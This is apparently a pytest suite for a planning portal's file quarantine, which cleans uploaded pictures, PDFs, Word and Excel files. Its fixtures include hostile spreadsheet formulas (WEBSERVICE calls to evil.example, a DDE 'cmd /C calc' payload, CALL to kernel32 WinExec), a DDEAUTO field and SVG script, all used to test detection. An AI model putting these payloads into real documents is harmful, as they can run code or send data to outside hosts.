"""What comes out looks the same and tells nobody anything."""

import io
import zipfile
from xml.sax.saxutils import escape, quoteattr

import openpyxl
import pikepdf
import pytest
from PIL import Image

from planning_portal.quarantine.formulas import is_harmless
from planning_portal.quarantine.office import clean_office
from planning_portal.quarantine.pdfs import clean_pdf, without_metadata
from planning_portal.quarantine.pictures import clean_picture
from planning_portal.quarantine.refusal import Refusal

from . import files
from .files import TRACE


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_picture_stands_upright_and_says_nothing(kind):
    made = clean_picture(files.photograph(kind))
    assert TRACE.encode() not in made
    with Image.open(io.BytesIO(made)) as picture:
        assert picture.format == kind
        assert picture.size == (300, 400)
        assert not dict(picture.getexif())
        assert not {"exif", "xmp", "comment", "Author", "icc_profile"} & set(picture.info)
        red, green, _blue = picture.convert("RGB").getpixel((290, 10))
        assert red > green, "what was at the left is at the top, as the camera was held"


def test_large_photograph_becomes_readable_and_small():
    with Image.open(io.BytesIO(clean_picture(files.photograph("JPEG", (5000, 4000), 1)))) as picture:
        assert max(picture.size) <= 2400
        assert min(picture.size) >= 1200


def test_transparency_stays():
    made = io.BytesIO()
    Image.new("RGBA", (10, 10), (1, 2, 3, 0)).save(made, "PNG")
    with Image.open(io.BytesIO(clean_picture(made.getvalue()))) as picture:
        assert picture.mode == "RGBA"


def test_picture_that_promises_too_many_pixels_is_refused():
    with pytest.raises(Refusal, match="pixels"):
        clean_picture(files.gigapixels())


def test_pdf_keeps_its_page_and_loses_what_tells_and_acts():
    made = clean_pdf(files.pdf())
    with pikepdf.open(io.BytesIO(made)) as pdf:
        # Written out in full, so that nothing hides in a compressed stream.
        plain = io.BytesIO()
        pdf.save(plain, stream_decode_level=pikepdf.StreamDecodeLevel.generalized, compress_streams=False,
                 object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=True)  # fmt: skip
        assert len(pdf.pages) == 1
        assert not {"/OpenAction", "/AA", "/AcroForm", "/Metadata", "/AF"} & set(pdf.Root.keys())
        assert "/Info" not in pdf.trailer
        notes = list(pdf.pages[0].Annots)
        assert str(notes[0].Contents) == "To be kept"
        assert str(notes[1].A.URI) == "https://x.org/"
        assert len(pdf.pages[0].Resources.XObject.A.read_raw_bytes()) > 500
    for trace in (TRACE.encode(), b"JavaScript", b"/Launch", b"/EmbeddedFile", b"app.alert", b"secret.txt"):
        assert trace not in plain.getvalue()


def test_encrypted_pdf_is_refused():
    with pytest.raises(Refusal, match="locked"):
        clean_pdf(files.pdf(encrypted=True))


def test_jpeg_inside_a_pdf_stays_the_same_picture():
    raw = files.photograph(orientation=1)
    bare = without_metadata(raw)
    assert TRACE.encode() in raw
    assert TRACE.encode() not in bare
    with Image.open(io.BytesIO(raw)) as one, Image.open(io.BytesIO(bare)) as other:
        assert one.tobytes() == other.tobytes()


@pytest.mark.parametrize("cut", [0, 1, 3, 20, 100])
def test_damaged_jpeg_inside_a_pdf_is_left_alone(cut):
    raw = files.photograph()[:cut]
    assert without_metadata(raw) == raw


def test_docx_keeps_its_text_and_loses_its_people():
    kind, made = clean_office(files.docx())
    parts = parts_of(made)
    assert kind == "docx"
    assert TRACE.encode() not in b"".join(parts.values())
    assert not [name for name in parts if name.startswith(("docProps", "customXml")) or "people" in name]
    document = parts["word/document.xml"].decode()
    assert '<w:t xml:space="preserve">Kept &amp; &lt;told&gt; </w:t>' in document
    assert 'mc:Ignorable="w14"' in document
    assert 'xmlns:w14="urn:14"' in document
    assert "rsid" not in document + parts["word/settings.xml"].decode()
    assert "2026" not in document
    assert 'w:author=""' in document
    assert b"A remark" in parts["word/comments.xml"]
    assert b"docProps" not in parts["[Content_Types].xml"] + parts["_rels/.rels"]
    links = parts["word/_rels/document.xml.rels"].decode()
    assert 'Target="https://example.org/a?b=1&amp;c=2"' in links
    assert "tracker" not in links
    assert "customXml" not in links
    with Image.open(io.BytesIO(parts["word/media/image1.jpeg"])) as picture:
        assert not dict(picture.getexif())
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}


def test_xlsx_keeps_its_cells():
    kind, made = clean_office(files.xlsx(B2="1+1", C3="[not] a|formula", D4=3.5))
    assert kind == "xlsx"
    assert TRACE.encode() not in b"".join(parts_of(made).values())
    sheet = openpyxl.load_workbook(io.BytesIO(made)).active
    assert [sheet[place].value for place in ("A1", "B2", "C3", "D4")] == ["Kept", "1+1", "[not] a|formula", 3.5]
    assert sheet["A1"].comment.text == "A remark"


REACHING = [
    'WEBSERVICE("http://evil.example/")', '_xlfn.webservice("http://evil.example/"&A1)', "_xlfn._xlws.FILTERXML(A1,B1)",
    'RTD("evil.server",,"x")', '_xlfn.IMAGE("https://evil.example/a.png")', 'HyperLink("http://evil.example/","x")',
    'CALL("kernel32","WinExec","JCJ","calc",0)', 'REGISTER.ID("evil","x")', 'EXEC ("calc")', 'SQL.REQUEST("evil")',
    'CUBEVALUE("evil","x")', 'IMPORTDATA("http://evil.example/")', '_xlfn.STOCKHISTORY("evil",1)',
    "cmd|' /C calc'!A0", "[1]evil!A1*2", "'[1]evil sheet'!A1", "'C:\\x\\[evil.xlsx]S'!A1", "'http://evil/a.ods'#S!A1",
    """'"'!A1&WEBSERVICE("evil")&'"'!A1""", "IF(TRUE,INDIRECT(evil))", '"evil',
]  # fmt: skip
WITHIN = [
    "Sheet!$A$1:$B$9",
    "'Costs (EUR)'!A1",
    '"a|b,c [d]"',
    'AND(ISBLANK(A1),LEFT(B1,2)="x(")',
    "mod(ROW(),2)=0",
    "#REF!",
]


@pytest.mark.parametrize("formula", REACHING)
def test_formula_that_reaches_out_is_harmful(formula):
    assert not is_harmless(formula)


@pytest.mark.parametrize("formula", WITHIN)
def test_formula_that_stays_within_is_harmless(formula):
    assert is_harmless(formula)


@pytest.mark.parametrize("formula", [*REACHING, "1+1"])
def test_cell_with_a_formula_becomes_what_it_last_said(formula):
    told = escape(formula)
    sheet = (
        f'<worksheet><sheetData><row><c r="A1" cm="1" t="str"><f>{told}</f><v>7</v></c>'
        f'<c r="A2"><f t="shared" ref="A2:A3" si="0">{told}</f><v>8</v></c><c r="A3"><f t="shared" si="0"/><v>9</v></c>'
        f'<c r="A4"><f t="array" ref="A4:A5">{told}</f><v>10</v></c></row></sheetData></worksheet>'
    )
    chain = {"xl__calcChain_dot_xml": '<calcChain><c r="A1"/></calcChain>'}
    parts = parts_of(clean_office(files.workbook(sheet, **chain))[1])
    assert (
        parts["xl/worksheets/s.xml"]
        .decode()
        .endswith(
            '<row><c r="A1" t="str"><v>7</v></c><c r="A2"><v>8</v></c><c r="A3"><v>9</v></c>'
            '<c r="A4"><v>10</v></c></row></sheetData></worksheet>'
        )
    )
    assert "xl/calcChain.xml" not in parts


@pytest.mark.parametrize("formula", REACHING)
def test_formula_outside_cells_that_reaches_out_is_lost_and_its_place_stays(formula):
    told = escape(formula)
    sheet = (
        f"<worksheet><c><v>1</v></c><cfRule><formula>{told}</formula></cfRule><cfvo val={quoteattr(formula)}/>"
        f"<dataValidation><formula1>{told}</formula1><formula2>{told}</formula2></dataValidation>"
        f"<extLst><ext><x14:formula1><xm:f>{told}</xm:f></x14:formula1></ext></extLst></worksheet>"
    )
    names = f'<workbook><definedNames><definedName name="a">{told}</definedName></definedNames></workbook>'
    chart = f"<c:chart><c:cat><c:f>{told}</c:f></c:cat></c:chart>"
    drawing = f'<xdr:sp macro="evil" textlink={quoteattr(formula)}/>'
    table = f"<table><calculatedColumnFormula>{told}</calculatedColumnFormula></table>"
    more = {"xl__workbook_dot_xml": names, "xl__charts__c_dot_xml": chart, "xl__drawings__d_dot_xml": drawing}
    more["xl__tables__t_dot_xml"] = table
    parts = parts_of(clean_office(files.workbook(sheet, **more))[1])
    written = parts["xl/worksheets/s.xml"].decode()
    assert written.count("#REF!") == 4
    assert '<cfvo val="0">' in written
    assert b'<definedName name="a">#REF!</definedName>' in parts["xl/workbook.xml"]
    assert b"<c:f>#REF!</c:f>" in parts["xl/charts/c.xml"]
    assert parts["xl/drawings/d.xml"].endswith(b"<xdr:sp></xdr:sp>")
    assert parts["xl/tables/t.xml"].endswith(b"<table></table>")
    assert told not in b"".join(parts.values()).decode()


@pytest.mark.parametrize("formula", WITHIN)
def test_formula_outside_cells_that_stays_within_is_kept(formula):
    sheet = f"<worksheet><c><v>1</v></c><cfRule><formula>{escape(formula)}</formula></cfRule></worksheet>"
    written = parts_of(clean_office(files.workbook(sheet))[1])["xl/worksheets/s.xml"].decode()
    assert f"<formula>{escape(formula)}</formula>" in written


def test_endless_formulas_are_told_at_once():
    assert all(is_harmless(sign * 1_000_000) for sign in ("a", "a ", "(", '""', "''"))
    assert not any(is_harmless(sign * 1_000_000 + end) for sign, end in (('""', '"'), ("a", "("), ("''a", "'")))


def test_formula_cut_in_two_by_an_element_is_refused():
    with pytest.raises(Refusal, match="broken"):
        clean_office(files.workbook('<worksheet><formula>WEBSERVICE(<a/>"x")</formula></worksheet>'))


def test_shapes_and_equations_keep_what_is_called_f_too():
    shape = '<xml><v:f eqn="sum 0 0 1"/><m:f><m:num>1</m:num></m:f></xml>'
    parts = parts_of(clean_office(files.workbook("<worksheet/>", xl__drawings__v_dot_vml=shape))[1])
    assert b'<v:f eqn="sum 0 0 1"></v:f><m:f><m:num>1</m:num></m:f>' in parts["xl/drawings/v.vml"]


def test_picture_in_a_cell_is_fetched_from_nowhere():
    links = (
        f'<Relationships><Relationship Id="r1" Type="{files.RELATIONS}/hyperlink" Target="https://evil.example/a.png"'
        ' TargetMode="External"/></Relationships>'
    )
    name = "xl__richData___rels__rdRichValueWebImage_dot_xml_dot_rels"
    parts = parts_of(clean_office(files.workbook("<worksheet/>", **{name: links}))[1])
    assert b"evil" not in b"".join(parts.values())


def test_workbook_that_leans_on_another_file_keeps_values_only():
    more = {"xl__externalLinks__e1_dot_xml": f"<a>{TRACE}</a>"}
    sheet = "<worksheet><c><f>[1]Other!A1*2</f><v>7</v></c></worksheet>"
    parts = parts_of(clean_office(files.workbook(sheet, **more))[1])
    assert b"<c><v>7</v></c>" in parts["xl/worksheets/s.xml"]
    assert not [name for name in parts if "external" in name]


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ({"word__vbaProject_dot_bin": b"x"}, "active"),
        ({"word__embeddings__oleObject1_dot_bin": b"x"}, "active"),
        ({"word__embeddings__Sheet_dot_xlsx": files.packed({"a": "b"})}, "nested"),
        ({"word__activeX__a_dot_xml": "<a/>"}, "active"),
        ({"word__header_dot_xml": files.LAUGHS}, "entities"),
        ({"word__header_dot_xml": files.OUTSIDE}, "entities"),
        ({"word__header_dot_xml": "<a><b></a>"}, "broken"),
        ({"word__media__image2_dot_png": b"not a picture"}, "broken"),
        ({"word__x_dot_xml": '<a><instrText>DD</instrText><instrText>EAUTO c:\\x "calc"</instrText></a>'}, "active"),
        ({"word__x_dot_xml": '<a><w:fldSimple xmlns:w="w" w:instr="INCLUDEPICTURE http://x"/></a>'}, "active"),
    ],
)
def test_docx_that_acts_or_deceives_is_refused(more, code):
    with pytest.raises(Refusal, match=code):
        clean_office(files.docx(**more))


def test_macros_are_known_by_what_they_are_declared_to_be_too():
    declared = files.packed(
        {"[Content_Types].xml": "<Types a='application/vnd.ms-word.document.macroEnabled.main+xml'/>",
         "word/document.xml": "<a/>"}
    )  # fmt: skip
    with pytest.raises(Refusal, match="active"):
        clean_office(declared)


def test_script_in_a_drawing_is_taken_out():
    drawing = '<svg onload="x()"><script>x()</script><path d="M0 0"/></svg>'
    parts = parts_of(clean_office(files.docx(word__media__d_dot_svg=drawing))[1])
    assert parts["word/media/d.svg"].endswith(b'<svg><path d="M0 0"></path></svg>')
